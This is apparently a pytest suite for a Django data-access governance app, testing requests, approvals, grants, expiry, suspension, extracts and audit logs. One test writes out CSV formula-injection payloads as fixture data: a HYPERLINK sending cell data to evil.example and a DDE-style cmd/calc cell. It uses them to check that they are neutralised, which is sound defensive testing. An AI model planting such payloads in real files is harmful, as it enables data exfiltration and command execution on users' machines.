"""Access requests and grants: business case, minimum data, decisions, refusals, lifecycle."""

from __future__ import annotations

import datetime

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from governance.access import extracts, lifecycle, policy
from governance.access import grants as grant_service
from governance.access import requests as service
from governance.access import selectors as access_selectors
from governance.access.models import AccessGrant, AccessRequest, IllegalTransition, StatusChange
from governance.core.audit import system_user
from governance.core.models import AccessEvent, User
from governance.core.plurals import date_text
from governance.register.models import DataItem, InformationAsset
from governance.register.people import mark_leaver
from tests.factories import (
    DataItemFactory,
    UserFactory,
    make_asset,
    make_data_protection_course,
    make_grant,
    make_signoff,
    screen_out_dpia,
)

TODAY = datetime.date.today()
S = DataItem.Sensitivity


@pytest.fixture
def iam(area):
    return UserFactory(username="iam", business_area=area)


@pytest.fixture
def asset(area, iam, deputy_siro):
    """A pseudonymised asset: counts (not personal), benefit type (not personal), date of birth (personal)."""
    asset = make_asset(manager=iam, business_area=area, name="Caseload extract", identifiability="pseudonymised")
    for name, sensitivity in (
        ("claim_count", S.NON_PERSONAL),
        ("benefit_type", S.NON_PERSONAL),
        ("date_of_birth", S.PERSONAL),
    ):
        DataItemFactory(asset=asset, name=name, sensitivity=sensitivity)
    return asset


@pytest.fixture
def identifiable(area, iam, deputy_siro):
    asset = make_asset(manager=iam, business_area=area, name="Claims with names", identifiability="identifiable")
    for name, sensitivity in (("nino", S.DIRECT_IDENTIFIER), ("claim_count", S.NON_PERSONAL)):
        DataItemFactory(asset=asset, name=name, sensitivity=sensitivity)
    return asset


@pytest.fixture
def handler(area):
    """A data handler whose data-protection training is current."""
    user = UserFactory(username="handler", business_area=area, is_data_handler=True)
    make_signoff(user, make_data_protection_course())
    return user


def items(asset, *names):
    return list(asset.items.filter(name__in=names).order_by("name"))


def form_data(asset, chosen: dict[str, str], end=None, action="submit", **extra):
    end = end or TODAY + datetime.timedelta(days=90)
    data = {
        "purpose": "Caseload statistics",
        "business_case": "Needed for the quarterly publication.",
        "requested_end_date_day": end.day,
        "requested_end_date_month": end.month,
        "requested_end_date_year": end.year,
        "action": action,
        **extra,
    }
    for item in asset.items.all():
        if item.name in chosen:
            data[f"item_{item.pk}"] = "on"
            data[f"why_{item.pk}"] = chosen[item.name]
    return data


def submit(requester, asset, names, end=None, *, screened_out=True):
    """A submitted request; its DPIA screening (if any) answered "not needed" unless ``screened_out`` is False."""
    request = service.save_request(
        requester=requester,
        asset=asset,
        purpose="Caseload statistics",
        business_case="Quarterly publication",
        requested_end_date=end or TODAY + datetime.timedelta(days=90),
        items={item: "needed" for item in items(asset, *names)},
        submit=True,
    )
    if screened_out:
        screen_out_dpia(request)
    return request


# --- asking ----------------------------------------------------------------------------


def test_staff_ask_for_items_with_a_reason_each(verified_client, staff, asset, iam, django_capture_on_commit_callbacks):
    client = verified_client(staff)
    assert client.get(f"/access/ask/{asset.pk}/").status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/access/ask/{asset.pk}/", form_data(asset, {"claim_count": "For the totals"}))
    assert response.status_code == 302
    req = AccessRequest.objects.get(requester=staff)
    assert req.state == "submitted" and not req.needs_deputy_approval
    assert [(r.data_item.name, r.justification) for r in req.items.all()] == [("claim_count", "For the totals")]
    assert [m.to for m in mail.outbox] == [[iam.email]]
    assert StatusChange.objects.filter(request=req, to_state="submitted", by=staff).exists()


def test_every_item_needs_its_reason_and_the_end_date_its_limit(verified_client, staff, asset):
    client = verified_client(staff)
    response = client.post(f"/access/ask/{asset.pk}/", form_data(asset, {"claim_count": ""}))
    assert "Say why you need claim_count" in response.content.decode()
    too_late = TODAY + datetime.timedelta(days=400)
    response = client.post(f"/access/ask/{asset.pk}/", form_data(asset, {"claim_count": "x"}, end=too_late))
    assert "12 months at most" in response.content.decode()
    response = client.post(f"/access/ask/{asset.pk}/", form_data(asset, {}))
    assert "Choose the data items you need" in response.content.decode()
    assert not AccessRequest.objects.exists()


def test_a_draft_is_saved_changed_submitted_and_withdrawn(verified_client, staff, asset):
    client = verified_client(staff)
    client.post(f"/access/ask/{asset.pk}/", form_data(asset, {"claim_count": ""}, action="draft"))
    req = AccessRequest.objects.get(requester=staff)
    assert req.state == "draft"
    response = client.post(
        f"/access/requests/{req.pk}/edit/", form_data(asset, {"claim_count": "x", "benefit_type": "y"}, action="draft")
    )
    assert response.status_code == 302
    assert req.items.count() == 2
    client.post(f"/access/requests/{req.pk}/submit/")
    req.refresh_from_db()
    assert req.state == "submitted"
    assert client.get(f"/access/requests/{req.pk}/edit/").status_code == 403  # no longer a draft
    client.post(f"/access/requests/{req.pk}/withdraw/", {"reason": "Found it elsewhere"})
    req.refresh_from_db()
    assert req.state == "withdrawn"


def test_data_handlers_without_current_training_cannot_ask_for_personal_data(verified_client, area, asset):
    make_data_protection_course()
    lapsed = UserFactory(business_area=area, is_data_handler=True)
    client = verified_client(lapsed)
    page = client.get(f"/access/ask/{asset.pk}/").content.decode()
    assert "You cannot be given this asset's personal data yet" in page
    response = client.post(f"/access/ask/{asset.pk}/", form_data(asset, {"date_of_birth": "Age bands"}))
    assert "Data-protection training is not current" in response.content.decode()
    assert not AccessRequest.objects.exists()
    # Items that are not personal data can still be asked for.
    response = client.post(f"/access/ask/{asset.pk}/", form_data(asset, {"claim_count": "Totals"}))
    assert response.status_code == 302


def test_a_cleared_data_handler_may_ask_for_personal_data(handler, asset):
    req = submit(handler, asset, ["date_of_birth"])
    assert req.state == "submitted"


def test_a_less_identifiable_asset_is_suggested(verified_client, staff, area, identifiable):
    anonymised = make_asset(
        manager=None,
        business_area=area,
        name="Claim counts (anonymised)",
        identifiability="anonymised",
        contains_personal_data=False,
        lawful_basis="",
    )
    DataItemFactory(asset=anonymised, name="claim_count", sensitivity=S.NON_PERSONAL)
    page = verified_client(staff).get(f"/access/ask/{identifiable.pk}/").content.decode()
    assert "A less identifiable asset might serve instead" in page
    assert "Claim counts (anonymised)" in page


def test_alternatives_are_counted_and_ranked_by_the_database_not_loaded(area, identifiable):
    """The request page runs on every render: the register's items must not be read into the worker."""
    from unittest import mock

    from governance.access.requests import less_identifiable_alternatives
    from governance.register.models import DataItem

    def anonymised(name):
        return make_asset(
            manager=None,
            business_area=area,
            name=name,
            identifiability="anonymised",
            contains_personal_data=False,
            lawful_basis="",
        )

    two, one, none = anonymised("Two shared"), anonymised("One shared"), anonymised("None shared")
    for name in ("Claim_Count", "region"):
        DataItemFactory(asset=two, name=name, sensitivity=S.NON_PERSONAL)
    DataItemFactory(asset=one, name="claim_count", sensitivity=S.NON_PERSONAL)
    for n in range(20):
        DataItemFactory(asset=none, name=f"other_{n}", sensitivity=S.NON_PERSONAL)
    with mock.patch.object(DataItem, "from_db", wraps=DataItem.from_db) as loaded:
        found = less_identifiable_alternatives(identifiable, ["claim_count", "REGION", "nino"])
    assert [(a.asset.name, a.shared) for a in found] == [("Two shared", 2), ("One shared", 1)]
    assert loaded.call_count == 0


# --- deciding ----------------------------------------------------------------------------


def decide(client, req, decision, reason="Sound case", items_=(), end=None):
    data = {"decision": decision, "reason": reason, "granted_items": [i.pk for i in items_]}
    if end:
        data.update(end_date_day=end.day, end_date_month=end.month, end_date_year=end.year)
    return client.post(f"/access/requests/{req.pk}/decide/", data)


def test_iam_approves_some_items_for_less_time(
    verified_client, handler, asset, iam, django_capture_on_commit_callbacks
):
    req = submit(handler, asset, ["claim_count", "benefit_type", "date_of_birth"])
    end = TODAY + datetime.timedelta(days=30)
    with django_capture_on_commit_callbacks(execute=True):
        response = decide(verified_client(iam), req, "approve", items_=items(asset, "claim_count"), end=end)
    assert response.status_code == 302
    req.refresh_from_db()
    assert req.state == "approved"
    grant = req.grant
    assert [i.name for i in grant.items.all()] == ["claim_count"]
    assert grant.ends_on == end and grant.decided_by == iam and not grant.needs_clearance
    assert {r.data_item.name: r.granted for r in req.items.all()} == {
        "claim_count": True,
        "benefit_type": False,
        "date_of_birth": False,
    }
    assert policy.active_grant(User.objects.get(pk=handler.pk), asset) == grant
    assert any("approved" in m.subject for m in mail.outbox if m.to == [handler.email])


def test_the_iam_cannot_lengthen_access_or_decide_without_a_reason(verified_client, staff, asset, iam):
    req = submit(staff, asset, ["claim_count"])
    client = verified_client(iam)
    response = decide(
        client,
        req,
        "approve",
        items_=items(asset, "claim_count"),
        end=req.requested_end_date + datetime.timedelta(days=1),
    )
    assert "cannot run longer than was asked for" in response.content.decode()
    response = decide(client, req, "reject", reason="")
    assert response.status_code == 200
    req.refresh_from_db()
    assert req.state == "submitted"
    decide(client, req, "reject", reason="Use the published tables")
    req.refresh_from_db()
    assert req.state == "rejected" and req.iam_reason == "Use the published tables"
    assert not AccessGrant.objects.exists()


@pytest.mark.parametrize("who", ["staff", "deputy_siro", "other_iam", "auditor"])
def test_only_the_iam_decides(request, verified_client, area, asset, who, other_area):
    if who == "other_iam":
        user = UserFactory(business_area=other_area)
        make_asset(manager=user, business_area=other_area)
    else:
        user = request.getfixturevalue(who)
    requester = UserFactory(business_area=area)
    req = submit(requester, asset, ["claim_count"])
    response = decide(verified_client(user), req, "approve", items_=items(asset, "claim_count"))
    assert response.status_code == 403
    req.refresh_from_db()
    assert req.state == "submitted"


def test_nobody_decides_their_own_request(iam, asset, deputy_siro):
    req = submit(iam, asset, ["claim_count"])  # the IAM asks for their own asset
    with pytest.raises(PermissionDenied):
        service.decide_as_iam(req, by=iam, decision="approve", reason="Mine")
    # The Deputy SIRO stands in for the IAM.
    assert policy.can_decide_as_iam(deputy_siro, req)
    service.decide_as_iam(req, by=deputy_siro, decision="approve", reason="Agreed")
    req.refresh_from_db()
    assert req.state == "approved" and req.grant.decided_by == deputy_siro


def test_the_requests_to_decide_come_a_page_at_a_time(verified_client, area, asset, iam):
    requesters = UserFactory.create_batch(51, business_area=area)
    for requester in requesters:
        submit(requester, asset, ["claim_count"])
    client = verified_client(iam)
    first = client.get("/access/decisions/")
    assert first.context["paginator"].count == 51 and len(first.context["waiting"]) == 50
    assert "51 requests waiting." in first.content.decode() and "page=2" in first.content.decode()
    second = client.get("/access/decisions/?page=2")
    assert [r.requester for r in second.context["waiting"]] == [requesters[-1]]


def test_identifiable_data_also_needs_the_deputy_siro(verified_client, handler, identifiable, iam, deputy_siro):
    req = submit(handler, identifiable, ["nino"])
    assert req.needs_deputy_approval
    decide(verified_client(iam), req, "approve", items_=items(identifiable, "nino"))
    req.refresh_from_db()
    assert req.state == "submitted" and req.stage == "Awaiting the Deputy SIRO"
    assert not AccessGrant.objects.exists()
    assert req in access_selectors.awaiting_decision(deputy_siro)
    response = verified_client(deputy_siro).post(
        f"/access/requests/{req.pk}/approve/", {"decision": "approve", "reason": "Fraud analysis needs it"}
    )
    assert response.status_code == 302
    req.refresh_from_db()
    assert req.state == "approved" and req.grant.needs_clearance


def test_the_deputy_siro_cannot_jump_the_iam(verified_client, handler, identifiable, deputy_siro):
    req = submit(handler, identifiable, ["nino"])
    with pytest.raises(ValidationError):
        service.decide_as_deputy(req, by=deputy_siro, decision="approve", reason="early")


def test_the_state_machine_refuses_illegal_moves_whatever_the_caller(
    handler, asset, iam, verified_client, administrator
):
    req = submit(handler, asset, ["claim_count"])
    service.decide_as_iam(req, by=iam, decision="reject", reason="No")
    req.refresh_from_db()
    with pytest.raises(ValidationError):
        service.withdraw(req, by=handler)
    req.state = AccessRequest.State.APPROVED  # directly, as a task or shell might
    with pytest.raises(IllegalTransition):
        req.save()
    with pytest.raises(IllegalTransition):
        AccessRequest.objects.create(
            requester=handler, asset=asset, purpose="x", business_case="x", requested_end_date=TODAY, state="approved"
        )
    # The admin shows requests read-only.
    client = verified_client(administrator)
    assert client.post(f"/admin/governance/accessrequest/{req.pk}/change/", {"state": "approved"}).status_code == 403
    assert AccessRequest.objects.get(pk=req.pk).state == "rejected"


def test_other_peoples_requests_and_grants_are_refused(verified_client, area, staff, asset):
    req = submit(UserFactory(business_area=area), asset, ["claim_count"])
    grant = make_grant(UserFactory(business_area=area), asset, items(asset, "claim_count"))
    client = verified_client(staff)
    for url in (f"/access/requests/{req.pk}/", f"/access/grants/{grant.pk}/", f"/access/grants/{grant.pk}/revoke/"):
        assert client.get(url).status_code == 403, url
    assert client.post(f"/access/requests/{req.pk}/withdraw/", {}).status_code == 403


# --- the granted data ----------------------------------------------------------------------


@pytest.fixture
def extract(asset, iam):
    content = "claim_count,benefit_type,date_of_birth\n12,UC,1970-01-01\n7,JSA,1985-05-05\n"
    return extracts.upload_extract(asset, SimpleUploadedFile("extract.csv", content.encode()), by=iam)


def test_a_formula_uploaded_in_an_extract_reaches_the_holder_as_text(verified_client, handler, asset, iam):
    content = (
        "claim_count,benefit_type\n"
        '=HYPERLINK("http://evil.example/?x="&A1;"Open"),UC\n'
        "@SUM(1+1),+cmd|' /C calc'!A0\n"
        "-7,-2.5\n"
    )
    extracts.upload_extract(asset, SimpleUploadedFile("extract.csv", content.encode()), by=iam)
    make_grant(handler, asset, items(asset, "claim_count", "benefit_type"))
    response = verified_client(handler).get(f"/access/data/{asset.pk}/extract.csv")
    import csv
    import io

    text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0].startswith("'=HYPERLINK(")
    assert rows[2] == ["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]
    assert rows[3] == ["-7", "-2.5"]  # plain negative numbers are no formula and stay as they were
    assert not any(cell[:1] in "=+@" for row in rows[1:] for cell in row)


def test_holders_see_and_download_their_granted_columns_only(verified_client, handler, asset, extract):
    grant = make_grant(handler, asset, items(asset, "claim_count", "benefit_type"))
    client = verified_client(handler)
    page = client.get(f"/access/data/{asset.pk}/")
    assert page.context["header"] == ["claim_count", "benefit_type"]
    assert "1970-01-01" not in page.content.decode()
    download = b"".join(client.get(f"/access/data/{asset.pk}/extract.csv").streaming_content).decode()
    assert download.lstrip("\ufeff").splitlines() == ["claim_count,benefit_type", "12,UC", "7,JSA"]
    kinds = list(AccessEvent.objects.filter(user=handler).values_list("kind", flat=True))
    assert kinds == ["extract downloaded", "granted data viewed"]
    event = AccessEvent.objects.filter(user=handler).first()
    assert event.object_repr == asset.name and event.ip_address == "127.0.0.1" and f"grant {grant.pk}" in event.detail


def test_checking_access_to_one_asset_is_one_query(handler, asset, django_assert_num_queries):
    make_grant(handler, asset, items(asset, "claim_count"))
    user = User.objects.get(pk=handler.pk)
    with django_assert_num_queries(1):
        assert policy.active_grant(user, asset) is not None


def test_without_a_grant_the_data_is_refused(verified_client, staff, asset, extract):
    client = verified_client(staff)
    for url in (f"/access/data/{asset.pk}/", f"/access/data/{asset.pk}/extract.csv"):
        response = client.get(url)
        assert response.status_code == 403
        assert b"no active access" in response.content
    assert not AccessEvent.objects.exists()


def test_revoked_access_is_refused_at_once(
    verified_client, handler, asset, iam, extract, django_capture_on_commit_callbacks
):
    grant = make_grant(handler, asset, items(asset, "claim_count"))
    with django_capture_on_commit_callbacks(execute=True):
        response = verified_client(iam).post(f"/access/grants/{grant.pk}/revoke/", {"reason": "Project ended"})
    assert response.status_code == 302
    grant.refresh_from_db()
    assert grant.state == "revoked" and grant.ended_by == iam
    assert verified_client(User.objects.get(pk=handler.pk)).get(f"/access/data/{asset.pk}/").status_code == 403
    assert any("revoked" in m.subject for m in mail.outbox)


def test_an_ended_grant_offers_no_revoking_and_its_revoke_page_is_refused(verified_client, handler, asset, iam):
    grant = make_grant(handler, asset, items(asset, "claim_count"))
    grant_service.revoke(grant, by=iam, reason="Project ended")
    client = verified_client(iam)
    assert f"/access/grants/{grant.pk}/revoke/" not in client.get(grant.get_absolute_url()).content.decode()
    assert client.get(f"/access/grants/{grant.pk}/revoke/").status_code == 403
    assert client.post(f"/access/grants/{grant.pk}/revoke/", {"reason": "Again"}).status_code == 403
    with pytest.raises(ValidationError, match="Only active or suspended access can be revoked"):
        grant_service.revoke(grant, by=iam, reason="Again")  # the service keeps its own check, under the row lock


def test_the_holder_cannot_revoke_or_extend_their_own_grant(handler, asset):
    grant = make_grant(handler, asset, items(asset, "claim_count"))
    with pytest.raises(PermissionDenied):
        grant_service.revoke(grant, by=handler, reason="x")


def test_expired_access_is_refused_even_before_the_nightly_task(verified_client, handler, asset, extract):
    grant = make_grant(handler, asset, items(asset, "claim_count"), days=1)
    AccessGrant.objects.filter(pk=grant.pk)  # the grant's end day is tomorrow: move the clock there
    import time_machine

    with time_machine.travel(datetime.datetime.combine(grant.ends_on, datetime.time(9)), tick=False):
        assert verified_client(handler).get(f"/access/data/{asset.pk}/").status_code == 403


def test_the_expiry_task_ends_grants_once_and_warns_ahead(handler, asset, django_capture_on_commit_callbacks):
    soon = make_grant(handler, asset, items(asset, "claim_count"), days=10)
    other = UserFactory(business_area=asset.business_area)
    done = make_grant(other, asset, items(asset, "claim_count"), days=1)
    day_after = TODAY + datetime.timedelta(days=1)
    with django_capture_on_commit_callbacks(execute=True):
        first = lifecycle.expire_and_warn(on=day_after)
        second = lifecycle.expire_and_warn(on=day_after)
    assert (first.expired, first.warned) == (1, 1)
    assert (second.expired, second.warned) == (0, 0)
    done.refresh_from_db()
    assert done.state == "expired" and "end date" in done.end_reason
    assert policy.active_grant(User.objects.get(pk=other.pk), asset) is None
    assert not other.__class__.objects.get(pk=other.pk).has_perm("governance.access_informationasset", asset)
    subjects = sorted(m.subject for m in mail.outbox)
    assert any("has ended" in s for s in subjects) and any(f"ends on {date_text(soon.ends_on)}" in s for s in subjects)


def test_lapsed_training_suspends_and_renewed_training_restores(handler, asset):
    grant = make_grant(handler, asset, items(asset, "date_of_birth"))
    assert grant.needs_clearance
    later = TODAY + datetime.timedelta(days=400)  # the data-protection sign-off has expired by then
    run = lifecycle.sync_training(on=later)
    grant.refresh_from_db()
    assert run.suspended_training == 1 and grant.state == "suspended" and grant.suspension == "training"
    assert lifecycle.sync_training(on=later).suspended_training == 0  # idempotent
    run = lifecycle.sync_training(on=TODAY)
    grant.refresh_from_db()
    assert run.restored_training == 1 and grant.state == "active"


def test_one_grants_failure_in_the_training_sync_is_logged_and_the_others_go_on(handler, asset, caplog):
    from unittest import mock

    first = make_grant(handler, asset, items(asset, "date_of_birth"))
    second = make_grant(handler, asset, items(asset, "date_of_birth"))
    later = TODAY + datetime.timedelta(days=400)
    real_suspend = lifecycle._suspend

    def fail_on_first(grant, *args, **kwargs):
        if grant.pk == first.pk:
            raise RuntimeError("disk full")
        return real_suspend(grant, *args, **kwargs)

    with mock.patch.object(lifecycle, "_suspend", fail_on_first):
        run = lifecycle.sync_training(on=later)
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.state, second.state, run.suspended_training) == ("active", "suspended", 1)
    assert f"access grant {first.pk} failed" in caplog.text


def test_signing_data_protection_restores_suspended_access(verified_client, handler, asset):
    from tests.conftest import current_code

    grant = make_grant(handler, asset, items(asset, "date_of_birth"))
    grant_service._suspend(grant, "training", by=system_user(), reason="test: lapsed")
    grant.refresh_from_db()
    assert grant.state == "suspended"
    course = make_data_protection_course()
    from governance.training.courses import current_versions

    client = verified_client(handler)
    client.post(
        f"/training/{course.pk}/sign/",
        {
            "version": current_versions([course])[course.pk].pk,
            "confirm": "on",
            "otp_token": current_code(handler.totpdevice_set.get()),
        },
    )
    grant.refresh_from_db()
    assert grant.state == "active"


def test_a_leavers_grants_are_suspended(handler, asset, administrator):
    grant = make_grant(handler, asset, items(asset, "claim_count"))
    mark_leaver(handler, by=administrator)
    grant.refresh_from_db()
    assert grant.state == "suspended" and grant.suspension == "leaver"
    assert policy.active_grant(User.objects.get(pk=handler.pk), asset) is None


# --- extracts ---------------------------------------------------------------------------


def test_extract_columns_must_be_data_items(verified_client, asset, iam, staff):
    client = verified_client(iam)
    bad = SimpleUploadedFile("x.csv", b"claim_count,secret_column\n1,2\n")
    response = client.post(f"/access/data/{asset.pk}/upload/", {"file": bad})
    assert "Not in its data dictionary: secret_column" in response.content.decode()
    response = client.post(f"/access/data/{asset.pk}/upload/", {"file": SimpleUploadedFile("x.txt", b"a")})
    assert "must be a CSV file" in response.content.decode()
    assert not asset.extracts.exists()
    assert verified_client(staff).get(f"/access/data/{asset.pk}/upload/").status_code == 403


# --- lists and the register ----------------------------------------------------------------


@pytest.mark.parametrize("count", [10, 120])  # past two pages: enough to show the queries do not grow
def test_grant_and_request_lists_run_a_bounded_number_of_queries(
    verified_client, asset, iam, count, django_assert_max_num_queries
):
    holders = [UserFactory(business_area=asset.business_area) for _ in range(10)]
    item = items(asset, "claim_count")
    for n in range(count):
        req = AccessRequest.objects.create(
            requester=holders[n % 10],
            asset=asset,
            purpose="p",
            business_case="b",
            requested_end_date=TODAY + datetime.timedelta(days=30),
        )
        req.state = "submitted"
        req.save()
        req.iam_decision, req.iam_decided_by, req.approved_end_date = "approve", iam, req.requested_end_date
        req.state = "approved"
        req.save()
        grant = AccessGrant.objects.create(
            request=req,
            holder=req.requester,
            asset=asset,
            starts_on=TODAY,
            ends_on=req.requested_end_date,
            decided_by=iam,
        )
        grant.items.add(*item)
    client = verified_client(iam)
    for url in ("/access/grants/", "/access/requests/", "/access/grants/?state=active"):
        client.get(url)
        with django_assert_max_num_queries(16):
            response = client.get(url)
        assert response.status_code == 200


def test_the_access_register_for_auditors(verified_client, auditor, staff, handler, asset, extract):
    make_grant(handler, asset, items(asset, "claim_count"))
    verified_client(handler).get(f"/access/data/{asset.pk}/")
    client = verified_client(auditor)
    response = client.get(f"/access/register/?user={handler.username}")
    assert [e.user for e in response.context["events"]] == [handler]
    csv_text = b"".join(client.get("/access/register/?format=csv").streaming_content).decode("utf-8-sig")
    assert "granted data viewed" in csv_text and handler.username in csv_text
    assert AccessEvent.objects.filter(user=auditor, kind="access register exported").exists()
    assert verified_client(staff).get("/access/register/").status_code == 403


def test_asset_page_shows_holders_and_recent_access_to_its_iam(verified_client, handler, asset, iam, staff, extract):
    make_grant(handler, asset, items(asset, "claim_count"))
    verified_client(handler).get(f"/access/data/{asset.pk}/")
    page = verified_client(iam).get(f"/assets/{asset.pk}/")
    assert [g.holder for g in page.context["holders"]] == [handler]
    assert len(page.context["events"]) == 1
    assert verified_client(staff).get(f"/assets/{asset.pk}/").context["holders"] is None
    assert InformationAsset.objects.filter(pk=asset.pk).exists()
